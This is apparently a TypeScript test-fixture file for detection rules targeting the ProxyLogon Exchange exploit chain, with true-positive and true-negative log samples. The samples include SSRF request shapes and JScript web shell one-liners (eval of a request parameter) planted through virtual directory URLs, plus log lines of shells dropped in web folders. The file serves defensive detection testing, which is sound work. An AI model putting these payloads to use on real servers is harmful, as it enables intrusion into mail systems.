// ProxyLogon (CVE-2021-26855/26858/27065) cases. Shapes from HelseCERT's published incident rows
// (helsecert/2021-march-exchange), Test-ProxyLogon's checks, Volexity's and CISA's request lists and the
// test-data recipes of shared/research/exchange-detections.md §6.1-6.5.
import type { RuleCase } from '../harness.js';
import { corr, iis, UA_CHROME } from './build.js';

const BE = 'EX01.contoso.local:444';
const ssrf = (path: string, status: string, stem = '/ecp/y.js'): Record<string, string> => ({
  Protocol: 'Ecp',
  UrlHost: 'mail.contoso.com',
  UrlStem: stem,
  IsAuthenticated: 'false',
  AnchorMailbox: `ServerInfo~a]@${BE}/${path}#`,
  UserAgent: 'python-requests/2.25.1',
  ClientIpAddress: '203.0.113.7',
  HttpStatus: status,
  Method: 'POST',
  RoutingHint: 'X-BEResource-Cookie',
});
const ecpAdmin = (stem: string, query: string, status = '200', method = 'POST'): Record<string, string> => ({
  Protocol: 'Ecp',
  UrlHost: 'mail.contoso.com',
  UrlStem: stem,
  UrlQuery: query,
  IsAuthenticated: 'true',
  AuthenticatedUser: 'CONTOSO\\exadmin',
  AnchorMailbox: 'Sid~S-1-5-21-1004336348-1177238915-682003330-1105',
  UserAgent: UA_CHROME,
  ClientIpAddress: '10.0.1.20',
  HttpStatus: status,
  Method: method,
  RoutingHint: 'WindowsIdentity',
});

const ECP_SET_SHELL =
  "S:TIME=41;S:SID=7a0b3c1d-0000-4000-8000-000000000001;'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"k\"],\"unsafe\");}</script>''.Identity=''3a5e2c1b-1111-4222-8333-444455556666''';S:REQID=;S:URL=/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=AbC.&schema=OABVirtualDirectory;S:EX=;S:BLD=15.1.2176.2";

export const cases: RuleCase[] = [
  {
    rule: 'proxylogon/httpproxy_serverinfo_ssrf_attempt.yml',
    log: 'httpproxy/ecp',
    tp: [ssrf('ecp/DDI/DDIService.svc/GetObject?schema=OABVirtualDirectory', '500'), ssrf('mapi/emsmdb/?', '503', '/ecp/ab.js')],
    tn: [
      ssrf('autodiscover/autodiscover.xml?', '500'),
      { ...ssrf('x', '500'), AnchorMailbox: 'ServerInfo~localhost/ecp/default.flt?~3' },
      ssrf('ecp/proxyLogon.ecp?', '241'),
      ecpAdmin('/ecp/DDI/DDIService.svc/GetList', '?msExchEcpCanary=x&schema=VirtualDirectory'),
    ],
  },
  {
    rule: 'proxylogon/httpproxy_serverinfo_ssrf_success.yml',
    log: 'httpproxy/ecp',
    tp: [ssrf('mapi/emsmdb/?', '200'), ssrf('ecp/proxyLogon.ecp?', '241')],
    tn: [ssrf('mapi/emsmdb/?', '500'), ssrf('autodiscover/autodiscover.xml?', '200'), { ...ssrf('x', '200'), AnchorMailbox: 'ServerInfo~localhost/ecp/default.flt?~3' }],
  },
  {
    rule: 'proxylogon/httpproxy_proxylogon_ecp_session.yml',
    log: 'httpproxy/ecp',
    tp: [ssrf('ecp/proxyLogon.ecp?', '241')],
    tn: [ssrf('ecp/proxyLogon.ecp?', '500'), ecpAdmin('/ecp/proxyLogon.ecp', '', '241')],
  },
  {
    rule: 'proxylogon/httpproxy_ddiservice_ssrf.yml',
    log: 'httpproxy/ecp',
    tp: [ssrf('ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=AbC.&schema=OABVirtualDirectory', '200')],
    tn: [
      ssrf('ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=AbC.&schema=OABVirtualDirectory', '500'),
      ecpAdmin('/ecp/DDI/DDIService.svc/SetObject', '?msExchEcpCanary=x&schema=OABVirtualDirectory'),
    ],
  },
  {
    rule: 'proxylogon/httpproxy_reset_vdir_ssrf.yml',
    log: 'httpproxy/ecp',
    tp: [ssrf('ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=AbC.&schema=ResetOABVirtualDirectory', '200')],
    tn: [
      ssrf('ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=AbC.&schema=OABVirtualDirectory', '200'),
      ssrf('ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=AbC.&schema=ResetOABVirtualDirectory', '500'),
      ecpAdmin('/ecp/DDI/DDIService.svc/SetObject', '?msExchEcpCanary=x&schema=ResetOABVirtualDirectory'),
    ],
  },
  {
    rule: 'proxylogon/httpproxy_post_static_resource.yml',
    log: 'httpproxy/ecp',
    tp: [ssrf('ecp/proxyLogon.ecp?', '500'), { ...ssrf('x', '404', '/owa/auth/x.js'), AnchorMailbox: '' }, { ...ssrf('x', '500', '/ecp/default.flt') }],
    tn: [
      ssrf('ecp/proxyLogon.ecp?', '241'),
      { ...ssrf('x', '404', '/ecp/y.js'), AnchorMailbox: 'Sid~S-1-5-21-1-2-3-1105', RoutingHint: 'WindowsIdentity' },
      ecpAdmin('/ecp/15.1.2176/scripts/microsoft.exchange.controlpanel.client.js', '', '200', 'GET'),
      ecpAdmin('/ecp/DDI/DDIService.svc/GetList', '?msExchEcpCanary=x&schema=MailboxService'),
    ],
  },
  {
    rule: 'proxylogon/iis_post_static_resource.yml',
    log: 'iis',
    tp: [
      iis({ m: 'POST', stem: '/ecp/y.js', ua: 'python-requests/2.25.1', status: 500 }),
      iis({ m: 'POST', stem: '/owa/auth/Current/themes/resources/logon.css', ua: 'DuckDuckBot/1.0; (+http://duckduckgo.com/duckduckbot.html)', status: 405 }),
      iis({ m: 'POST', stem: '/ecp/main.css', ua: 'ExchangeServicesClient/0.0.0.0', status: 500 }),
      iis({ m: 'POST', stem: '/ecp/default.flt', ua: 'ExchangeServicesClient/0.0.0.0', status: 404 }),
      iis({ m: 'POST', stem: '/ecp/Q7z.js', ua: UA_CHROME, status: 503 }),
      iis({ m: 'POST', stem: '/owa/auth/x.js', ua: UA_CHROME, status: 404 }),
    ],
    tn: [
      iis({ m: 'POST', stem: '/ecp/y.js', ua: 'python-requests/2.25.1', status: 200 }),
      iis({ stem: '/owa/auth/15.1.2176/themes/resources/logon.css', ua: UA_CHROME, ip: '198.51.100.20' }),
      iis({ stem: '/ecp/15.1.2176/scripts/microsoft.exchange.controlpanel.client.js', ua: UA_CHROME, user: 'CONTOSO\\exadmin' }),
      iis({ m: 'POST', stem: '/owa/auth.owa', ua: UA_CHROME, status: 302 }),
      iis({ m: 'POST', stem: '/ecp/DDI/DDIService.svc/GetList', q: `schema=MailboxService&msExchEcpCanary=x&${corr}`, ua: UA_CHROME, user: 'CONTOSO\\exadmin' }),
    ],
  },
  {
    rule: 'proxylogon/iis_post_static_resource_success.yml',
    log: 'iis',
    tp: [
      iis({ m: 'POST', stem: '/owa/auth/Current/themes/resources/logon.css', ua: 'python-requests/2.19.1', status: 241 }),
      iis({ m: 'POST', stem: '/ecp/y.js', ua: 'python-requests/2.25.1' }),
      iis({ m: 'POST', stem: '/ecp/auth/w.js', ua: UA_CHROME }),
    ],
    tn: [
      iis({ m: 'POST', stem: '/ecp/y.js', ua: 'python-requests/2.25.1', status: 500 }),
      iis({ stem: '/owa/auth/15.1.2176/themes/resources/logon.css', ua: UA_CHROME }),
      iis({ m: 'POST', stem: '/owa/auth.owa', ua: UA_CHROME, status: 302 }),
    ],
  },
  {
    rule: 'proxylogon/iis_backend_machine_account_ssrf.yml',
    log: 'iis',
    tp: [
      iis({ m: 'POST', stem: '/ecp/proxyLogon.ecp', q: '', port: 444, user: 'CONTOSO\\EX01$', ip: '10.0.0.5', ua: 'python-requests/2.19.1', status: 241 }),
      iis({ m: 'POST', stem: '/powershell', q: 'X-Rps-CAT=VgEAVAdXaW5kb3dz', port: 444, user: 'CONTOSO\\EX01$', ip: '10.0.0.5', ua: 'python-requests/2.25.1' }),
      iis({ m: 'POST', stem: '/ecp/DDI/DDIService.svc/SetObject', q: 'msExchEcpCanary=x&schema=OABVirtualDirectory', port: 444, user: 'CONTOSO\\EX01$', ip: '10.0.0.5', ua: 'ExchangeServicesClient/0.0.0.0' }),
    ],
    tn: [
      iis({ m: 'POST', stem: '/mapi/emsmdb/', q: '', port: 444, user: 'CONTOSO\\jdoe', ip: '10.0.0.5', ua: 'MapiHttpClient' }),
      iis({ m: 'POST', stem: '/ecp/proxyLogon.ecp', q: '', port: 444, user: 'CONTOSO\\EX01$', ip: '10.0.0.5', ua: 'python-requests/2.19.1', status: 500 }),
      iis({ m: 'POST', stem: '/ecp/DDI/DDIService.svc/GetList', port: 443, user: 'CONTOSO\\EX01$', ip: '10.0.0.5', ua: UA_CHROME }),
      iis({ m: 'POST', stem: '/powershell', port: 444, user: 'CONTOSO\\HealthMailbox0a1b2c3', ip: '10.0.0.5', ua: 'Exchange BackEnd Probes' }),
    ],
  },
  {
    rule: 'proxylogon/iis_ddiservice_reset_vdir_machine_account.yml',
    log: 'iis',
    tp: [
      iis({
        m: 'POST',
        stem: '/ecp/DDI/DDIService.svc/SetObject',
        q: `schema=ResetOABVirtualDirectory&msExchEcpCanary=AbC.&${corr}`,
        port: 444,
        user: 'CONTOSO\\EX01$',
        ip: '10.0.0.5',
        ua: 'ExchangeServicesClient/0.0.0.0',
      }),
    ],
    tn: [
      iis({ m: 'POST', stem: '/ecp/DDI/DDIService.svc/SetObject', q: `schema=ResetOABVirtualDirectory&msExchEcpCanary=x&${corr}`, port: 444, user: 'CONTOSO\\exadmin', ip: '10.0.0.5', ua: UA_CHROME }),
      iis({ m: 'POST', stem: '/ecp/DDI/DDIService.svc/SetObject', q: `schema=OABVirtualDirectory&msExchEcpCanary=x&${corr}`, port: 444, user: 'CONTOSO\\EX01$', ip: '10.0.0.5' }),
    ],
  },
  {
    rule: 'proxylogon/ecp_server_set_vdir_script_url.yml',
    log: 'ecp-server',
    tp: [
      { EventData: ECP_SET_SHELL },
      { EventData: "S:TIME=12;'S:CMD=Set-OwaVirtualDirectory.InternalUrl=''http://x/<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"p\"],\"unsafe\");%>''.Identity=''abc''';S:URL=/ecp/DDI/DDIService.svc/SetObject?schema=OWAVirtualDirectory" },
    ],
    tn: [
      { EventData: "S:TIME=40;'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''https://mail.contoso.com/OAB''.Identity=''3a5e2c1b''';S:URL=/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=x&schema=OABVirtualDirectory;S:BLD=15.1.2176.2" },
      { EventData: 'S:TIME=8;S:CMD=Get-InboxRule;S:URL=/ecp/RulesEditor/InboxRules.svc/GetList' },
    ],
  },
  {
    rule: 'proxylogon/oab_generator_download_outside_oab.yml',
    log: 'oab-generator',
    tp: [
      "2021-03-03T07:01:02.123Z OABGen Download failed and temporary file 'C:\\inetpub\\wwwroot\\aspnet_client\\shell.aspx' needs to be removed",
      "2021-03-03T07:01:02.123Z OABGen Download failed and temporary file '\\\\127.0.0.1\\c$\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\x.aspx' needs to be removed",
      "2021-03-03T07:01:02.123Z OABGen Download failed and temporary file 'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\ClientAccess\\OAB\\..\\..\\FrontEnd\\HttpProxy\\owa\\auth\\y.aspx' needs to be removed",
    ],
    tn: [
      "2021-03-03T07:01:02.123Z OABGen Download failed and temporary file 'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\ClientAccess\\OAB\\Temp\\6f0a2b1c\\oab.xml' needs to be removed",
      "2021-03-03T07:01:02.123Z OABGen Download failed and temporary file 'D:\\Exchange\\V15\\ClientAccess\\OAB\\Temp\\6f0a2b1c\\data.lzx' needs to be removed",
      '2021-03-03T07:01:02.123Z OABGen Download completed for OAB 6f0a2b1c',
    ],
  },
];
